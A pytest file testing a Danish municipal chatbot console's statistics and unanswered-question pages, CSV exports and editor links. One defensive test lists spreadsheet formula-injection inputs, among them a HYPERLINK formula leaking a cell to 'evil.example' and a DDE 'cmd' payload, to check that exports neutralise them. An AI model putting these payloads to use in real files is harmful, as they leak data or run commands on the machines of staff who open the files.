"""The insight pages in the console: roles, figures on the page, CSV downloads, the editor link."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

import bot.web.insight
from bot.insight.unanswered import REASON_LABELS_DA, SMALL_TALK
from bot.store import Store
from tests.bot.insight_seed import FIRST, LAST, seed
from tests.bot.test_insight_cli import OneHotEmbedder

ANALYTICS = f"/konsol/statistik?fra={FIRST}&til={LAST}&kommune=0101"
UNANSWERED = f"/konsol/ubesvarede?fra={FIRST}&til={LAST}"


@pytest.fixture
def seeded(app: Any, store: Store, monkeypatch: pytest.MonkeyPatch) -> Any:
    """The app over the hand-counted log; clustering with a stand-in model (no similarities)."""
    seed(store)
    fake = OneHotEmbedder()
    monkeypatch.setattr(bot.web.insight, "get_knowledge", lambda: SimpleNamespace(embedder=fake))
    return app


def text_of(html: str) -> str:
    """The page's text with tags dropped and whitespace collapsed."""
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


@pytest.mark.parametrize("path", [ANALYTICS, UNANSWERED, "/konsol/statistik.csv",
                                  "/konsol/ubesvarede.csv"])  # fmt: skip
def test_login_required(client: Any, path: str) -> None:
    response = client.get(path)
    assert response.status_code == 302
    assert "/konsol/login" in response.headers["Location"]


@pytest.mark.parametrize(
    ("role", "analytics", "unanswered"),
    [("agent", 403, 403), ("editor", 200, 200), ("admin", 200, 200)],
)
def test_roles(
    seeded: Any, client: Any, login: Callable[..., str], role: str, analytics: int,
    unanswered: int,
) -> None:  # fmt: skip
    login(client, role)
    assert client.get(ANALYTICS).status_code == analytics
    assert client.get("/konsol/statistik.csv").status_code == analytics
    assert client.get(UNANSWERED).status_code == unanswered
    assert client.get("/konsol/ubesvarede.csv").status_code == unanswered


def test_nav_links_for_an_editor(seeded: Any, client: Any, login: Callable[..., str]) -> None:
    login(client, "editor")
    page = client.get(ANALYTICS).get_data(as_text=True)
    assert '<a href="/konsol/statistik" aria-current="page">Statistik</a>' in page
    assert '<a href="/konsol/ubesvarede">Ubesvarede spørgsmål</a>' in page


def test_analytics_page_shows_the_figures(
    seeded: Any, client: Any, login: Callable[..., str]
) -> None:
    login(client, "admin")
    response = client.get(ANALYTICS)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    text = text_of(html)
    assert "23. marts 2026 til og med 31. marts 2026, kommune 0101." in text
    assert "Samtaler 9 startet i perioden" in text
    assert "Klaret af botten 56 %" in text
    assert "5 af 9 samtaler uden overdragelse eller opringning" in text
    assert "Givet videre til medarbejder 3" in text and "Opringninger bestilt 1" in text
    assert ("Spørgsmål 10 4 besvaret · 1 «Mente du …?» · 2 ikke forstået ( se de ubesvarede ) · "
            "3 småsnak ( se småsnakken )") in text  # fmt: skip
    assert "Fik svar («ja») 33 % 1 ja · 2 nej" in text
    assert ("Flest beskeder fra borgere: Mandag kl. 09–10 (3), Torsdag kl. 20–21 (2), "
            "Fredag kl. 10–11 (2).") in text  # fmt: skip
    # the links: the unanswered questions without small talk, and the small talk
    period = "fra=2026-03-23&amp;til=2026-03-31&amp;kommune=0101"
    assert f'<a href="/konsol/ubesvarede?{period}">se de ubesvarede</a>' in html
    assert f'<a href="/konsol/ubesvarede?{period}&amp;smaasnak=1">se småsnakken</a>' in html
    # charts are SVG images with a text alternative, and each has a table
    assert html.count('role="img"') >= 5  # daily, share, guides, 3 feedback bars
    assert re.search(r'<title id="chart-daily-\d+-t">Samtaler pr. dag</title>', html)
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(ids) == len(set(ids))
    assert "<caption>Samtaler pr. dag, kommune 0101</caption>" in html
    assert '<td class="heat-5">3</td>' in html  # Monday 09
    assert "Hvordan bestiller jeg nyt pas som voksen?" in html  # title from the guide file
    assert "Sådan regnes tallene" in text
    assert "Ikke forstået Ingen vejledning passede på et spørgsmål" in text
    assert "Småsnak tælles ikke med her." in text
    assert "Småsnak Beskeder, botten tog for småsnak eller noget uden for sit område" in text
    assert '<option value="0101" selected>0101</option>' in html
    assert "/konsol/statistik.csv?fra=2026-03-23&amp;til=2026-03-31&amp;kommune=0101" in html


def test_analytics_csv_download(seeded: Any, client: Any, login: Callable[..., str]) -> None:
    login(client, "editor")
    response = client.get(f"/konsol/statistik.csv?fra={FIRST}&til={LAST}&kommune=0101")
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="statistik_2026-03-23_2026-03-31_0101.csv"'
    )
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeffAfsnit;Emne;Mål;Værdi")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    summary = {r[2]: r[3] for r in rows if r[0] == "Overblik"}
    assert (summary["Samtaler"], summary["Andel klaret af botten"]) == ("9", "0,5556")
    assert (summary["Ikke forstået"], summary["Småsnak"]) == ("2", "3")
    assert ["Pr. time", "mandag 09", "Beskeder fra borgere", "3"] in rows


def test_unanswered_page_lists_clusters_with_a_link_to_the_editor(
    seeded: Any, client: Any, login: Callable[..., str]
) -> None:
    login(client, "editor")
    html = client.get(UNANSWERED).get_data(as_text=True)
    text = text_of(html)
    # c2 c3 c7 c9 c11 of the 12 questions, less the 3 small-talk ones (c10's two, c13's)
    assert "5 af 9 spørgsmål fra 23. marts 2026 til og med 31. marts 2026 (alle kommuner)" in text
    assert "samlet i 5 grupper" in text
    assert ("Desuden tog botten 3 beskeder for småsnak og fandt ingen vejledning, der passede. "
            "De er ikke med her.") in text  # fmt: skip
    assert ('<a href="/konsol/ubesvarede?fra=2026-03-23&amp;til=2026-03-31&amp;kommune=&amp;'
            'smaasnak=1">Vis også småsnak</a>') in html  # fmt: skip
    assert "«fortæl en vittighed» 1 spørgsmål" not in text  # no cluster of it
    assert "Botten tog det for småsnak:" not in text
    # a question taken for small talk that went to a person is in, with its hand-off
    assert "«hvad koster en parkeringslicens»" in text
    assert "«Hvordan registrerer jeg min hund?»" in text
    assert "Givet videre til medarbejder: 1" in text and "Svaret hjalp ikke: 1" in text
    assert "Bottens bedste gæt Nyt sundhedskort (sundhedskort-nyt, 1 gang)" in text
    assert "Hent listen som CSV" in text
    links = re.findall(r'<a class="button" href="([^"]+)">Skriv en vejledning', html)
    assert len(links) == 5
    url = urlsplit(links[0].replace("&amp;", "&"))
    assert url.path == "/konsol/vejledninger/ny"
    query = parse_qs(url.query)
    assert query["title"] == ["Hvordan registrerer jeg min hund?"]
    assert query["question"] == ["Hvordan registrerer jeg min hund?"]
    assert query["keywords"] == ["registrerer, hund"]  # the citizens' words, no stop words
    assert "kommune" not in query  # the report covers all municipalities
    # and the editor's page opens with all of it filled in
    editor = client.get(links[0].replace("&amp;", "&")).get_data(as_text=True)
    assert 'id="f-title" name="title" value="Hvordan registrerer jeg min hund?"' in editor
    assert ">registrerer, hund</textarea>" in editor


def test_write_a_guide_link_carries_the_reports_municipality(
    seeded: Any, client: Any, login: Callable[..., str]
) -> None:
    login(client, "editor")
    html = client.get(f"{UNANSWERED}&kommune=0101").get_data(as_text=True)
    links = re.findall(r'<a class="button" href="([^"]+)">Skriv en vejledning', html)
    assert links
    for link in links:
        assert parse_qs(urlsplit(link.replace("&amp;", "&")).query)["kommune"] == ["0101"]
    editor = client.get(links[0].replace("&amp;", "&")).get_data(as_text=True)
    assert re.search(r'id="f-municipality" name="municipality" value="0101"', editor)


def test_without_the_model_identical_wordings_are_still_grouped(
    seeded: Any, client: Any, login: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken() -> Any:
        raise RuntimeError("no model")

    monkeypatch.setattr(bot.web.insight, "get_knowledge", broken)
    login(client, "editor")
    response = client.get(UNANSWERED)
    assert response.status_code == 200
    text = text_of(response.get_data(as_text=True))
    assert "Sprogmodellen kunne ikke indlæses lige nu" in text
    assert "samlet i 5 grupper" in text


def test_unanswered_municipality_filter_and_csv(
    seeded: Any, client: Any, login: Callable[..., str]
) -> None:
    login(client, "editor")
    text = text_of(client.get(f"{UNANSWERED}&kommune=0202").get_data(as_text=True))
    assert "0 af 1 spørgsmål" in text and "Der er ingen ubesvarede spørgsmål i perioden." in text
    assert "Desuden tog botten 1 besked for småsnak" in text and "Den er ikke med her." in text
    response = client.get(f"/konsol/ubesvarede.csv?fra={FIRST}&til={LAST}&kommune=0101")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="ubesvarede_2026-03-23_2026-03-31_0101.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")),
                               delimiter=";"))  # fmt: skip
    assert len(rows) == 5  # c2 c3 c7 c9 c11
    assert {r["Hvad skete der"] for r in rows} == {
        "Givet videre til medarbejder", "Svaret hjalp ikke", "Ikke forstået"
    }  # fmt: skip
    response = client.get(f"/konsol/ubesvarede.csv?fra={FIRST}&til={LAST}&kommune=0101&smaasnak=1")
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="ubesvarede_2026-03-23_2026-03-31_0101_med-smaasnak.csv"'
    )
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")),
                               delimiter=";"))  # fmt: skip
    small_talk = [
        r["Spørgsmål"] for r in rows if r["Hvad skete der"] == REASON_LABELS_DA[SMALL_TALK]
    ]
    assert sorted(small_talk) == ["fortæl en vittighed", "hvad hedder du"]
    assert len(rows) == 7


def test_unanswered_page_with_small_talk(
    seeded: Any, client: Any, login: Callable[..., str]
) -> None:
    login(client, "editor")
    html = client.get(f"{UNANSWERED}&smaasnak=1").get_data(as_text=True)
    text = text_of(html)
    assert "8 af 12 spørgsmål" in text and "samlet i 8 grupper" in text
    assert ("Småsnak er med: 3 af de ubesvarede er beskeder, botten tog for småsnak "
            "( Botten tog det for småsnak ). Skjul småsnak .") in text  # fmt: skip
    for wording in ("fortæl en vittighed", "hvad hedder du", "hvordan bliver vejret i morgen"):
        assert f"«{wording}» 1 spørgsmål" in text
    assert text.count("Botten tog det for småsnak: 1") == 3
    # the filter keeps the choice, and the CSV link and the presets carry it
    assert '<option value="1" selected>Vis også</option>' in html
    csv_link = (
        "/konsol/ubesvarede.csv?fra=2026-03-23&amp;til=2026-03-31&amp;kommune=&amp;smaasnak=1"
    )
    assert csv_link in html
    assert html.count("smaasnak=1") >= 5  # the CSV link and the four presets
    # the explanation says why small talk is left out by default
    assert "Småsnak er ikke med, medmindre du vælger «Vis også»" in text
    assert "botten tager af og til et rigtigt spørgsmål for småsnak" in text.lower()
    default = client.get(UNANSWERED).get_data(as_text=True)
    assert '<option value="" selected>Ikke med</option>' in default
    assert 'id="f-smaasnak"' not in client.get(ANALYTICS).get_data(as_text=True)


def test_unanswered_csv_does_not_let_a_citizen_write_a_formula(
    app: Any, store: Store, client: Any, login: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from bot.questions import record_question
    from knowledge.search import SearchResult

    hostile = [
        '=HYPERLINK("https://evil.example/?"&A1;"Klik")',
        "+45 12 34 56 78 ring til mig",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ]
    with store.transaction() as s:
        for i, text in enumerate(hostile):
            assert record_question(s, f"h{i}", "0101", SearchResult(text, "fallback", []))
    monkeypatch.setattr(
        bot.web.insight, "get_knowledge", lambda: SimpleNamespace(embedder=OneHotEmbedder())
    )
    login(client, "editor")
    body = client.get("/konsol/ubesvarede.csv").get_data(as_text=True)
    texts = [r["Spørgsmål"] for r in csv.DictReader(io.StringIO(body.lstrip("\ufeff")),
                                                     delimiter=";")]  # fmt: skip
    assert len(texts) == len(hostile)
    assert all(t.startswith("'") for t in texts), texts
    # the text is otherwise kept (whitespace as the question log stores it)
    assert "'-1+1" in texts and "'+45 12 34 56 78 ring til mig" in texts


def test_no_questions_loads_no_model(
    app: Any, client: Any, login: Callable[..., str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def must_not_load() -> Any:
        raise AssertionError("the model must not be loaded without questions")

    monkeypatch.setattr(bot.web.insight, "get_knowledge", must_not_load)
    login(client, "editor")
    text = text_of(client.get("/konsol/ubesvarede").get_data(as_text=True))
    assert "0 af 0 spørgsmål" in text
    assert "Klaret af botten –" in text_of(client.get("/konsol/statistik").get_data(as_text=True))


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("fra=01-03-2026", "Skriv datoerne som ÅÅÅÅ-MM-DD"),
        ("fra=2026-03-31&til=2026-03-01", "Perioden slutter, før den begynder"),
        ("fra=2020-01-01&til=2026-03-01", "højst være tre år"),
        ('kommune=01"01', "Ukendt kommunekode"),
    ],
)
def test_bad_filters_get_a_danish_400(
    app: Any, client: Any, login: Callable[..., str], query: str, message: str
) -> None:
    login(client, "editor")
    for path in ("/konsol/statistik", "/konsol/ubesvarede", "/konsol/statistik.csv"):
        response = client.get(f"{path}?{query}")
        assert response.status_code == 400
        assert message in response.get_data(as_text=True)


@pytest.mark.slow
def test_unanswered_page_with_the_real_model(
    app: Any, store: Store, client: Any, login: Callable[..., str], embedder: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:  # fmt: skip
    from datetime import timedelta

    from bot.questions import record_question
    from knowledge.search import SearchResult

    monkeypatch.setattr(
        bot.web.insight, "get_knowledge", lambda: SimpleNamespace(embedder=embedder)
    )
    with store.transaction() as s:
        texts = ["Der er graffiti på min husmur", "hvem fjerner graffiti",
                 "graffiti på skolen skal fjernes", "Må jeg brænde haveaffald af?"]  # fmt: skip
        for i, text in enumerate(texts):
            q = record_question(s, f"k{i}", "0101", SearchResult(text, "fallback", []))
            assert q is not None
            q.created_at = q.created_at - timedelta(days=1)
    login(client, "editor")
    text = text_of(client.get("/konsol/ubesvarede").get_data(as_text=True))
    assert "4 af 4 spørgsmål" in text and "samlet i 2 grupper" in text
    assert "3 spørgsmål 3 forskellige formuleringer" in text
